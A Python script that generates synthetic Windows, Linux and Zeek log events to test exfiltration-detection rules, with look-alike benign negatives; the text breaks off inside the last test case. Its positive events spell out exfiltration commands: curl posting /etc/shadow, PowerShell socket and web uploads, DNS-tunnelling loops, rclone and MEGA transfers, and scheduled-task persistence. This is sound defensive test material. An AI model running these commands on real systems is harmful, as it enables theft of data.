#!/usr/bin/env python3
"""Writes the rule pack's test events: rules/tests/<rule-file-stem>.pos.jsonl and .neg.jsonl.

Each line is one event in the `evtx` crate's JSON shape ({"Event":{"System":...,
"EventData":...}}), the shape exfilguard's JSON reader accepts for Windows and Sysmon
for Linux. Positives must fire their rule; negatives are near misses (the same tool
doing something harmless, or a look-alike) that must not. For correlation rules the
file is one sequence of events on one host, in time order.

All events are made up by the exfilguard team. Run from anywhere:
    python3 rules/tests/make_events.py
"""

import json
import os
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
BASE_TIME = datetime(2026, 1, 5, 2, 0, 0, tzinfo=timezone.utc)

# kind -> (EventID, Channel, Provider)
KINDS = {
    "sysmon1": (1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
    "sysmon3": (3, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
    "sysmon11": (11, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
    "sysmon22": (22, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
    "sec4688": (4688, "Security", "Microsoft-Windows-Security-Auditing"),
    "ps4104": (4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell"),
    "lnx1": (1, "Linux-Sysmon/Operational", "Linux-Sysmon"),
}


def event(kind, data, minutes=0, computer=None):
    """One event of `kind` with EventData `data`, `minutes` after the base time."""
    event_id, channel, provider = KINDS[kind]
    when = BASE_TIME + timedelta(minutes=minutes)
    if computer is None:
        computer = "web1.corp.example" if kind == "lnx1" else "ws1.corp.example"
    data = dict(data)
    if kind.startswith("sysmon") or kind == "lnx1":
        data.setdefault("UtcTime", when.strftime("%Y-%m-%d %H:%M:%S.000"))
    return {
        "Event": {
            "System": {
                "EventID": event_id,
                "Channel": channel,
                "Computer": computer,
                "Provider": {"#attributes": {"Name": provider}},
                "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%SZ")}},
            },
            "EventData": data,
        }
    }


def proc(image, command_line, parent="C:\\Windows\\System32\\cmd.exe", parent_cmd=None, original=None, **extra):
    """Sysmon 1 EventData for a Windows process start."""
    data = {
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd if parent_cmd is not None else parent,
        "User": "CORP\\jdoe",
        "CurrentDirectory": "C:\\Users\\jdoe\\",
    }
    if original is not None:
        data["OriginalFileName"] = original
    data.update(extra)
    return data


def sec_proc(image, command_line, parent="C:\\Windows\\System32\\cmd.exe"):
    """Security 4688 EventData for a Windows process start (process command-line
    auditing on)."""
    return {
        "NewProcessName": image,
        "CommandLine": command_line,
        "ParentProcessName": parent,
        "SubjectUserName": "jdoe",
        "SubjectDomainName": "CORP",
        "TokenElevationType": "%%1938",
    }


def lproc(image, command_line, parent="/bin/bash", parent_cmd=None):
    """Sysmon for Linux 1 EventData for a process start."""
    return {
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd if parent_cmd is not None else parent,
        "User": "www-data",
        "CurrentDirectory": "/var/www",
    }


def script(text):
    """PowerShell 4104 EventData for one script block."""
    return {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": "0b7a3c1e-1111-4222-8333-944455556666", "Path": ""}


def file_created(image, target):
    """Sysmon 11 EventData."""
    return {"Image": image, "TargetFilename": target, "User": "CORP\\jdoe"}


def dns(image, name):
    """Sysmon 22 EventData."""
    return {"Image": image, "QueryName": name, "QueryStatus": "0", "QueryResults": "::ffff:198.51.100.7;"}


def conn(image, dest_ip, port, initiated="true"):
    """Sysmon 3 EventData."""
    return {
        "Image": image,
        "Protocol": "tcp",
        "Initiated": initiated,
        "SourceIp": "10.1.2.30",
        "SourcePort": "50211",
        "DestinationIp": dest_ip,
        "DestinationPort": str(port),
    }


def zeek(path, fields, minutes=0):
    """One Zeek JSON log record (`_path` names the log) from a sensor at the border."""
    record = {
        "_path": path,
        "ts": (BASE_TIME + timedelta(minutes=minutes)).timestamp(),
        "uid": "CkFq3a1bT9xq2Yk8Qe",
        "id.orig_h": "10.1.2.30",
        "id.orig_p": 50211,
    }
    record.update(fields)
    return record


def zeek_dns(query, qtype="A"):
    """A Zeek dns.log record asking the internal resolver for `query`."""
    return zeek("dns", {"id.resp_h": "10.1.0.2", "id.resp_p": 53, "proto": "udp", "query": query,
                        "qtype_name": qtype, "rcode_name": "NOERROR", "answers": []})


def zeek_http(method, host, uri, request_body_len, response_body_len=0):
    """A Zeek http.log record to 198.51.100.4."""
    return zeek("http", {"id.resp_h": "198.51.100.4", "id.resp_p": 80, "trans_depth": 1, "method": method,
                         "host": host, "uri": uri, "user_agent": "curl/8.4.0",
                         "request_body_len": request_body_len, "response_body_len": response_body_len,
                         "status_code": 200})


SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
TOOLS = "C:\\Users\\Public\\tools\\"
SCHED_PARENT = dict(parent=SYS32 + "svchost.exe", parent_cmd="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")

CASES = {
    # ---------------- Windows process creation ----------------
    "proc_rclone_cloud_transfer": {
        "pos": [
            event("sysmon1", proc(TOOLS + "rclone.exe", TOOLS + "rclone.exe copy C:\\Shares\\Finance mega:backup --transfers 8 -q", original="rclone.exe")),
            event("sec4688", {"NewProcessName": TOOLS + "rclone.exe", "CommandLine": "rclone.exe sync \\\\fs01\\hr remote:hr --bwlimit 5M", "ParentProcessName": SYS32 + "cmd.exe", "SubjectUserName": "jdoe"}),
        ],
        "neg": [
            event("sysmon1", proc(TOOLS + "rclone.exe", TOOLS + "rclone.exe version", original="rclone.exe")),
            event("sysmon1", proc(TOOLS + "rclone.exe", TOOLS + "rclone.exe lsd remote:", original="rclone.exe")),
        ],
    },
    "proc_rclone_renamed": {
        "pos": [
            event("sysmon1", proc("C:\\ProgramData\\svchost.exe", "C:\\ProgramData\\svchost.exe copy C:\\Data s:exfil -q", original="rclone.exe", Description="Rsync for cloud storage")),
            event("sysmon1", proc("C:\\ProgramData\\upd.exe", "upd.exe --config C:\\ProgramData\\u.conf copy C:\\Shares st:dump --transfers 16 --no-check-certificate")),
        ],
        "neg": [
            event("sysmon1", proc(TOOLS + "rclone.exe", TOOLS + "rclone.exe --config r.conf copy C:\\Data st:dump --transfers 16", original="rclone.exe")),
            event("sysmon1", proc("C:\\Program Files\\Git\\usr\\bin\\rsync.exe", "rsync.exe -av --config x copy here there")),
        ],
    },
    "proc_curl_file_upload": {
        "pos": [
            event("sec4688", sec_proc(SYS32 + "curl.exe", "curl.exe --upload-file C:\\Users\\Public\\d.zip https://198.51.100.4/put/d.zip")),
            event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe -T C:\\Users\\Public\\d.7z ftp://203.0.113.9/in/ --user a:b", original="curl.exe")),
            event("sysmon1", proc(SYS32 + "curl.exe", 'curl.exe -s -F "f=@C:\\Users\\Public\\loot.zip" https://transfer.example.net/upload', original="curl.exe")),
            event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe --data-binary @C:\\temp\\dump.txt https://198.51.100.4/p", original="curl.exe")),
        ],
        "neg": [
            event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe -o C:\\temp\\setup.exe https://download.example.com/setup.exe", original="curl.exe")),
            event("sysmon1", proc(SYS32 + "curl.exe", 'curl.exe -F "name=value" https://api.example.com/form', original="curl.exe")),
        ],
    },
    "proc_restic_backup_to_remote": {
        "pos": [event("sysmon1", proc(TOOLS + "restic.exe", "restic.exe -r s3:s3.amazonaws.com/bucket-x backup C:\\Shares --quiet", original="restic.exe"))],
        "neg": [event("sysmon1", proc(TOOLS + "restic.exe", "restic.exe -r D:\\backups\\repo backup C:\\Shares", original="restic.exe"))],
    },
    "proc_megacmd_upload": {
        "pos": [
            event("sysmon1", proc(SYS32 + "cmd.exe", 'cmd.exe /c "C:\\Users\\jdoe\\AppData\\Local\\MEGAcmd\\mega-put.bat" C:\\Users\\Public\\a.7z /loot/')),
            event("sysmon1", proc("C:\\Users\\jdoe\\AppData\\Local\\MEGAcmd\\MEGAclient.exe", "MEGAclient.exe put C:\\Users\\Public\\a.7z /loot/")),
        ],
        "neg": [event("sysmon1", proc("C:\\Users\\jdoe\\AppData\\Local\\MEGAcmd\\MEGAclient.exe", "MEGAclient.exe login user@example.net"))],
    },
    "proc_winscp_scripted_upload": {
        "pos": [
            event("sysmon1", proc("C:\\Program Files (x86)\\WinSCP\\WinSCP.com", 'WinSCP.com /ini=nul /script=C:\\Users\\Public\\up.txt', original="winscp.com")),
            event("sysmon1", proc("C:\\Program Files (x86)\\WinSCP\\WinSCP.com", 'WinSCP.com /command "open sftp://u:p@203.0.113.5/" "put C:\\Users\\Public\\a.zip" "exit"', original="winscp.com")),
        ],
        "neg": [event("sysmon1", proc("C:\\Program Files (x86)\\WinSCP\\WinSCP.exe", '"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe"', parent="C:\\Windows\\explorer.exe", original="winscp.exe"))],
    },
    "proc_pscp_upload": {
        "pos": [event("sysmon1", proc(TOOLS + "pscp.exe", "pscp.exe -pw S3cret -batch C:\\Users\\Public\\a.zip root@203.0.113.7:/tmp/", original="PSCP"))],
        "neg": [event("sysmon1", proc(TOOLS + "pscp.exe", "pscp.exe -V", original="PSCP"))],
    },
    "proc_openssh_scp_sftp_batch": {
        "pos": [
            event("sysmon1", proc(SYS32 + "OpenSSH\\scp.exe", "scp.exe -i C:\\Users\\jdoe\\.ssh\\k -o BatchMode=yes C:\\Users\\Public\\a.zip u@203.0.113.8:/srv/")),
            event("sysmon1", proc(SYS32 + "OpenSSH\\sftp.exe", "sftp.exe -b C:\\Users\\Public\\cmds.txt u@203.0.113.8")),
        ],
        "neg": [event("sysmon1", proc(SYS32 + "OpenSSH\\scp.exe", "scp.exe u@10.1.1.4:/etc/motd C:\\temp\\motd"))],
    },
    "proc_ftp_script_mode": {
        "pos": [event("sysmon1", proc(SYS32 + "ftp.exe", "ftp.exe -i -s:C:\\Users\\Public\\ftp.txt", original="ftp.exe"))],
        "neg": [event("sysmon1", proc(SYS32 + "ftp.exe", "ftp.exe 203.0.113.3", original="ftp.exe"))],
    },
    "proc_wget_post_file": {
        "pos": [event("sysmon1", proc(TOOLS + "wget.exe", "wget.exe --post-file=C:\\Users\\Public\\a.txt http://198.51.100.2/u", original="wget.exe"))],
        "neg": [event("sysmon1", proc(TOOLS + "wget.exe", "wget.exe http://198.51.100.2/tool.zip", original="wget.exe"))],
    },
    "proc_bitsadmin_upload_job": {
        "pos": [
            event("sec4688", sec_proc(SYS32 + "bitsadmin.exe", "bitsadmin.exe /transfer up /upload https://198.51.100.4/u C:\\Users\\Public\\a.zip")),
            event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin.exe /create /upload exfiljob", original="bitsadmin.exe")),
            event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /upload /priority high https://198.51.100.4/u C:\\Users\\Public\\a.zip", original="bitsadmin.exe")),
        ],
        "neg": [
            event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /download /priority normal https://dl.example.com/a.msi C:\\temp\\a.msi", original="bitsadmin.exe")),
            # a download whose URL path contains "/uploads/" is not an upload job
            event("sec4688", {"NewProcessName": SYS32 + "bitsadmin.exe", "CommandLine": "bitsadmin  /transfer j2 https://www.example.org/wp-content/uploads/2020/11/card.jpg c:\\img.png", "ParentProcessName": SYS32 + "cmd.exe", "SubjectUserName": "jdoe"}),
        ],
    },
    "proc_certreq_post_upload": {
        "pos": [event("sysmon1", proc(SYS32 + "certreq.exe", "certreq.exe -Post -config https://198.51.100.6/ C:\\Users\\Public\\secrets.txt out.txt", original="CertReq.exe"))],
        "neg": [event("sysmon1", proc(SYS32 + "certreq.exe", "certreq.exe -submit -config CA01\\Corp-CA request.req cert.cer", original="CertReq.exe"))],
    },
    "proc_powershell_cmdline_upload": {
        "pos": [
            event("sysmon1", proc(PS, "powershell.exe -nop -c (New-Object Net.WebClient).UploadFile('http://198.51.100.3/u','C:\\Users\\Public\\a.zip')", original="PowerShell.EXE")),
            event("sysmon1", proc(PS, "powershell.exe -c Invoke-WebRequest -Uri https://198.51.100.3/u -Method Put -InFile C:\\Users\\Public\\a.zip", original="PowerShell.EXE")),
        ],
        "neg": [event("sysmon1", proc(PS, "powershell.exe -c (New-Object Net.WebClient).DownloadFile('https://dl.example.com/a.msi','C:\\temp\\a.msi')", original="PowerShell.EXE"))],
    },
    "proc_archiver_password_or_split": {
        "pos": [
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pInfected123 -mhe=on C:\\Users\\Public\\d.7z C:\\Shares\\Finance", original="7z.exe")),
            event("sysmon1", proc("C:\\Program Files\\WinRAR\\rar.exe", "rar.exe a -v100m -hpX C:\\ProgramData\\p.rar C:\\Shares\\HR", original="Rar.exe")),
            event("sysmon1", proc(SYS32 + "cmd.exe", 'cmd.exe /c "7z a -pS3cret C:\\Users\\Public\\x.7z C:\\Users\\jdoe\\Documents"')),
        ],
        "neg": [
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe x -pInfected123 C:\\Users\\jdoe\\Downloads\\sample.7z", original="7z.exe")),
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\temp\\logs.7z C:\\logs", original="7z.exe")),
            event("sysmon1", proc(SYS32 + "cmd.exe", 'cmd.exe /c "rar a -r docs.rar *.docx"')),
        ],
    },
    "proc_archive_utility_create": {
        "pos": [
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\Public\\d.7z C:\\Shares\\Finance", original="7z.exe")),
            event("sysmon1", proc(SYS32 + "tar.exe", "tar.exe -cf C:\\Users\\Public\\d.tar C:\\Shares\\HR")),
            event("sysmon1", proc(SYS32 + "cmd.exe", 'cmd.exe /c "rar a -r exfil.rar *.docx"')),
        ],
        "neg": [
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe x C:\\Users\\jdoe\\Downloads\\a.7z", original="7z.exe")),
            event("sysmon1", proc(SYS32 + "tar.exe", "tar.exe -xf C:\\Users\\jdoe\\Downloads\\src.tar -C C:\\src")),
        ],
    },
    "proc_transfer_tool_execution": {
        "pos": [
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Users\\Public\\d.7z mega:x", original="rclone.exe")),
            event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe -T C:\\Users\\Public\\d.7z ftp://203.0.113.9/", original="curl.exe")),
        ],
        "neg": [event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe https://example.com/", original="curl.exe"))],
    },
    "proc_schtasks_create_transfer_action": {
        "pos": [
            event("sec4688", sec_proc(SYS32 + "schtasks.exe", 'schtasks /create /sc onlogon /tn sync /tr "C:\\ProgramData\\winscp.com /script=C:\\ProgramData\\s.txt"')),
            event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks.exe /create /sc hourly /tn "OneDrive Sync" /tr "C:\\Users\\Public\\tools\\rclone.exe copy C:\\Shares mega:x" /ru SYSTEM', original="schtasks.exe")),
            event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks /Create /SC MINUTE /MO 30 /TN up /TR "curl.exe -T C:\\Users\\Public\\a.zip ftp://203.0.113.9/"', original="schtasks.exe")),
        ],
        "neg": [
            event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks.exe /create /sc daily /tn Defrag /tr "C:\\Windows\\System32\\defrag.exe C: /O"', original="schtasks.exe")),
            event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks.exe /query /tn "rclone job"', original="schtasks.exe")),
        ],
    },
    "proc_at_job_transfer": {
        "pos": [event("sysmon1", proc(SYS32 + "at.exe", 'at.exe 02:00 /every:M,T,W,Th,F "C:\\Users\\Public\\tools\\rclone.exe copy C:\\Shares mega:x"', original="at.exe"))],
        "neg": [event("sysmon1", proc(SYS32 + "at.exe", "at.exe 02:00 C:\\scripts\\cleanup.bat", original="at.exe"))],
    },
    "proc_transfer_tool_from_task_scheduler": {
        "pos": [event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Shares mega:x", original="rclone.exe", **SCHED_PARENT))],
        "neg": [
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Shares mega:x", original="rclone.exe")),
            event("sysmon1", proc(SYS32 + "defrag.exe", "defrag.exe C: /O", **SCHED_PARENT)),
        ],
    },
    "proc_nslookup_encoded_query": {
        "pos": [event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe 4d5a90000300000004000000ffff0000b8000000.d.exfil-example.net", original="nslookup.exe"))],
        "neg": [
            event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe mail.corp.example", original="nslookup.exe")),
            # a domain controller's GUID-based name is long but not encoded data
            event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe -type=CNAME 3f2504e0-4f89-11d3-9a0c-0305e82c3301._msdcs.corp.example", original="nslookup.exe")),
        ],
    },
    "proc_dns_lookup_loop": {
        "pos": [
            event("sysmon1", proc(SYS32 + "cmd.exe", 'cmd.exe /c for /f %a in (C:\\Users\\Public\\chunks.txt) do nslookup %a.d.exfil-example.net')),
            event("sysmon1", proc(PS, "powershell.exe -c Get-Content C:\\Users\\Public\\c.txt | ForEach-Object { Resolve-DnsName \"$_.d.exfil-example.net\" }", original="PowerShell.EXE")),
        ],
        "neg": [event("sysmon1", proc(SYS32 + "cmd.exe", "cmd.exe /c nslookup mail.corp.example"))],
    },
    # ---------------- PowerShell script blocks ----------------
    "ps_webclient_upload": {
        "pos": [event("ps4104", script("$wc = New-Object System.Net.WebClient\n$wc.UploadFile('https://198.51.100.3/upload.php', 'C:\\Users\\Public\\loot.zip')"))],
        "neg": [event("ps4104", script("$wc = New-Object System.Net.WebClient\n$wc.DownloadString('https://intranet.corp.example/motd.txt')"))],
    },
    "ps_web_request_upload": {
        "pos": [
            event("ps4104", script("Invoke-RestMethod -Uri https://content.example-storage.net/put -Method Put -InFile C:\\Users\\Public\\d.7z")),
            event("ps4104", script("$b = [IO.File]::ReadAllBytes('C:\\Users\\jdoe\\Documents\\keys.kdbx')\nInvoke-WebRequest -Uri https://198.51.100.3/p -Method Post -Body $b")),
        ],
        "neg": [
            event("ps4104", script("Invoke-WebRequest -Uri https://dl.example.com/agent.msi -OutFile C:\\temp\\agent.msi")),
            event("ps4104", script("Invoke-RestMethod -Uri https://api.corp.example/health -Method Post -Body '{\"ok\":true}'")),
            # "-Confirm" must not read as the irm alias
            event("ps4104", script("Remove-Item C:\\temp\\old.txt -Confirm -Force\n$cfg = Get-Content C:\\app\\cfg.json\nSet-Service -Name app -StartupType Automatic -Method Post")),
        ],
    },
    "ps_socket_file_send": {
        "pos": [event("ps4104", script("$c = New-Object System.Net.Sockets.TcpClient('203.0.113.10', 4444)\n$s = $c.GetStream()\n$b = [IO.File]::ReadAllBytes('C:\\Users\\Public\\a.zip')\n$s.Write($b, 0, $b.Length)"))],
        "neg": [event("ps4104", script("$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect('fileserver.corp.example', 445)\n$c.Connected"))],
    },
    "ps_ftpwebrequest_upload": {
        "pos": [event("ps4104", script("$r = [System.Net.FtpWebRequest]::Create('ftp://203.0.113.11/in/a.zip')\n$r.Method = [System.Net.WebRequestMethods+Ftp]::UploadFile\n$r.Credentials = New-Object System.Net.NetworkCredential('u','p')"))],
        "neg": [event("ps4104", script("$r = [System.Net.FtpWebRequest]::Create('ftp://ftp.example.org/pub/readme.txt')\n$r.Method = [System.Net.WebRequestMethods+Ftp]::DownloadFile"))],
    },
    "ps_dns_resolve_file_read": {
        "pos": [event("ps4104", script("$d = [Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Users\\Public\\a.txt'))\nfor ($i=0; $i -lt $d.Length; $i+=40) { Resolve-DnsName ($d.Substring($i,40) + '.x.exfil-example.net') }"))],
        "neg": [event("ps4104", script("$hosts = Get-Content C:\\admin\\servers.txt\nforeach ($h in $hosts) { Resolve-DnsName $h }"))],
    },
    "ps_compress_archive_staging": {
        "pos": [event("ps4104", script("Compress-Archive -Path C:\\Users\\jdoe\\Documents\\* -DestinationPath C:\\Users\\Public\\docs.zip -Force"))],
        "neg": [event("ps4104", script("Compress-Archive -Path .\\build\\* -DestinationPath .\\dist\\release.zip"))],
    },
    "ps_register_scheduled_task_transfer": {
        "pos": [event("ps4104", script("$a = New-ScheduledTaskAction -Execute 'C:\\Users\\Public\\tools\\rclone.exe' -Argument 'copy C:\\Shares mega:x'\n$t = New-ScheduledTaskTrigger -Daily -At 2am\nRegister-ScheduledTask -TaskName 'Update' -Action $a -Trigger $t"))],
        "neg": [event("ps4104", script("$a = New-ScheduledTaskAction -Execute 'defrag.exe' -Argument 'C: /O'\nRegister-ScheduledTask -TaskName 'Defrag' -Action $a"))],
    },
    # ---------------- Windows file, network, DNS ----------------
    "file_archive_in_staging_folder": {
        "pos": [
            event("sysmon11", file_created("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Users\\Public\\finance.7z")),
            event("sysmon11", file_created(PS, "C:\\PerfLogs\\out.zip")),
        ],
        "neg": [
            event("sysmon11", file_created("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Users\\jdoe\\Documents\\holiday.zip")),
            event("sysmon11", file_created(SYS32 + "msiexec.exe", "C:\\ProgramData\\Vendor\\cache\\update.cab")),
        ],
    },
    "file_split_archive_volume": {
        "pos": [event("sysmon11", file_created("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Users\\Public\\d.7z.001"))],
        "neg": [event("sysmon11", file_created("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Users\\Public\\d.7z"))],
    },
    "file_rclone_config_written": {
        "pos": [event("sysmon11", file_created(SYS32 + "cmd.exe", "C:\\Users\\jdoe\\AppData\\Roaming\\rclone\\rclone.conf"))],
        "neg": [event("sysmon11", file_created(SYS32 + "cmd.exe", "C:\\Users\\jdoe\\AppData\\Roaming\\rclone\\rclone.conf.bak"))],
    },
    "net_transfer_tool_external_connection": {
        "pos": [event("sysmon3", conn(TOOLS + "rclone.exe", "31.216.144.5", 443))],
        "neg": [
            event("sysmon3", conn(TOOLS + "rclone.exe", "10.1.9.20", 443)),
            event("sysmon3", conn("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "31.216.144.5", 443)),
        ],
    },
    "dns_file_sharing_service_by_non_browser": {
        "pos": [event("sysmon22", dns(TOOLS + "upd.exe", "g.api.mega.co.nz"))],
        "neg": [
            event("sysmon22", dns("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "mega.nz")),
            event("sysmon22", dns(TOOLS + "upd.exe", "www.corp.example")),
        ],
    },
    "dns_encoded_long_label": {
        "pos": [
            event("sysmon22", dns(SYS32 + "nslookup.exe", "4d5a90000300000004000000ffff0000b800000000000000.d.exfil-example.net")),
            event("sysmon22", dns(PS, "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil-example.net")),
        ],
        "neg": [
            event("sysmon22", dns(PS, "login.microsoftonline.com")),
            event("sysmon22", dns("C:\\Program Files\\Vendor\\player.exe", "3f786850e387550fdab836ed7e6dc881de23001b.beacon.analytics-example.net")),
        ],
    },
    # ---------------- Linux ----------------
    "lnx_transfer_tool_from_cron": {
        "pos": [event("lnx1", lproc("/usr/bin/curl", "curl -s -T /var/backups/db.sql.gz ftp://203.0.113.9/in/", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f"))],
        "neg": [
            event("lnx1", lproc("/usr/bin/curl", "curl -s http://127.0.0.1:8080/health", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f")),
            event("lnx1", lproc("/usr/bin/rsync", "rsync -a /srv/www/ backup@10.0.4.20:/backups/www/", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f")),
            event("lnx1", lproc("/usr/bin/curl", "curl -s -T /var/backups/db.sql.gz ftp://203.0.113.9/in/")),
        ],
    },
    "lnx_curl_wget_upload": {
        "pos": [
            event("lnx1", lproc("/usr/bin/curl", "curl -F file=@/etc/shadow https://198.51.100.3/u")),
            event("lnx1", lproc("/usr/bin/wget", "wget --post-file=/tmp/dump.tgz http://198.51.100.3/u")),
        ],
        "neg": [event("lnx1", lproc("/usr/bin/curl", "curl -fsSL -o /tmp/install.sh https://get.example.com/install.sh"))],
    },
    "lnx_rclone_transfer": {
        "pos": [event("lnx1", lproc("/usr/bin/rclone", "rclone copy /srv/share remote:loot --transfers 8"))],
        "neg": [event("lnx1", lproc("/usr/bin/rclone", "rclone config show"))],
    },
    "lnx_noninteractive_scp_rsync": {
        "pos": [
            event("lnx1", lproc("/usr/bin/sshpass", "sshpass -p S3cret scp /tmp/d.tgz root@203.0.113.7:/tmp/")),
            event("lnx1", lproc("/usr/bin/sftp", "sftp -b /tmp/cmds u@203.0.113.7")),
        ],
        "neg": [event("lnx1", lproc("/usr/bin/sshpass", "sshpass -p S3cret ssh admin@10.0.0.5 uptime"))],
    },
    "lnx_cron_entry_with_transfer_tool": {
        "pos": [event("lnx1", lproc("/bin/sh", "sh -c (crontab -l; echo '*/15 * * * * curl -T /var/backups/db.sql ftp://203.0.113.9/') | crontab -"))],
        "neg": [event("lnx1", lproc("/bin/sh", "sh -c (crontab -l; echo '0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf') | crontab -"))],
    },
    "lnx_systemd_run_timer_transfer": {
        "pos": [event("lnx1", lproc("/usr/bin/systemd-run", "systemd-run --on-calendar=hourly /usr/bin/rclone copy /srv/share remote:x"))],
        "neg": [event("lnx1", lproc("/usr/bin/systemd-run", "systemd-run --on-calendar=daily /usr/bin/updatedb"))],
    },
    "lnx_archive_encrypt_or_split": {
        "pos": [
            event("lnx1", lproc("/usr/bin/zip", "zip -r -P S3cret /tmp/.d.zip /srv/share/finance")),
            event("lnx1", lproc("/usr/bin/split", "split -b 50M /tmp/d.tgz /tmp/d.part.")),
        ],
        "neg": [
            event("lnx1", lproc("/usr/bin/zip", "zip -r /tmp/site.zip /var/www/html")),
            event("lnx1", lproc("/usr/bin/split", "split -l 1000 /var/log/app.log /tmp/app.")),
        ],
    },
    "lnx_dns_lookup_encoded_label": {
        "pos": [event("lnx1", lproc("/usr/bin/dig", "dig +short 726f6f743a783a303a303a726f6f743a2f726f6f74.d.exfil-example.net"))],
        "neg": [event("lnx1", lproc("/usr/bin/dig", "dig +short mail.corp.example MX"))],
    },
    "lnx_archive_utility_create": {
        "pos": [event("lnx1", lproc("/usr/bin/tar", "tar -czf /tmp/.d.tgz /srv/share/finance"))],
        "neg": [event("lnx1", lproc("/usr/bin/tar", "tar -xzf /tmp/release.tgz -C /opt/app"))],
    },
    "lnx_transfer_tool_execution": {
        "pos": [event("lnx1", lproc("/usr/bin/scp", "scp /tmp/.d.tgz u@203.0.113.7:/srv/"))],
        "neg": [event("lnx1", lproc("/usr/bin/curl", "curl -s https://example.com/"))],
    },
    # ---------------- Network sensor (Zeek) ----------------
    "zeek_dns_encoded_long_label": {
        "pos": [
            zeek_dns("4d5a90000300000004000000ffff0000b800000000000000.d.exfil-example.net"),
            zeek_dns("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil-example.net", qtype="TXT"),
        ],
        "neg": [
            zeek_dns("www.corp.example"),
            # a SHA-1 (40 hex) keyed analytics host name is not encoded data
            zeek_dns("3f786850e387550fdab836ed7e6dc881de23001b.beacon.analytics-example.net"),
            zeek_dns("4.3.2.1.0.0.0.0.8.b.d.0.1.0.0.2.0000000000000000000000000000000000000000.ip6.arpa", qtype="PTR"),
        ],
    },
    "zeek_http_large_upload": {
        "pos": [zeek_http("POST", "198.51.100.4", "/upload.php", 52428800)],
        "neg": [
            zeek_http("GET", "dl.example.com", "/iso/big.iso", 0, 4294967296),
            zeek_http("POST", "api.example.com", "/v1/telemetry", 4096),
        ],
    },
    # ---------------- Correlations (one host, in time order) ----------------
    "corr_win_archive_then_transfer": {
        "pos": [
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\Public\\d.7z C:\\Shares\\Finance", original="7z.exe"), minutes=0),
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Users\\Public\\d.7z mega:x", original="rclone.exe"), minutes=20),
        ],
        "neg": [
            # transfer first, archive later: wrong order
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Users\\Public\\d.7z mega:x", original="rclone.exe"), minutes=0),
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\Public\\d.7z C:\\Shares\\Finance", original="7z.exe"), minutes=20),
            # archive then transfer, but more than an hour apart
            event("sysmon1", proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\Public\\e.7z C:\\Shares\\HR", original="7z.exe"), minutes=200),
            event("sysmon1", proc(TOOLS + "rclone.exe", "rclone.exe copy C:\\Users\\Public\\e.7z mega:x", original="rclone.exe"), minutes=300),
        ],
    },
    "corr_lnx_archive_then_transfer": {
        "pos": [
            event("lnx1", lproc("/usr/bin/tar", "tar -czf /tmp/.d.tgz /srv/share/finance"), minutes=0),
            event("lnx1", lproc("/usr/bin/scp", "scp /tmp/.d.tgz u@203.0.113.7:/srv/"), minutes=5),
        ],
        "neg": [
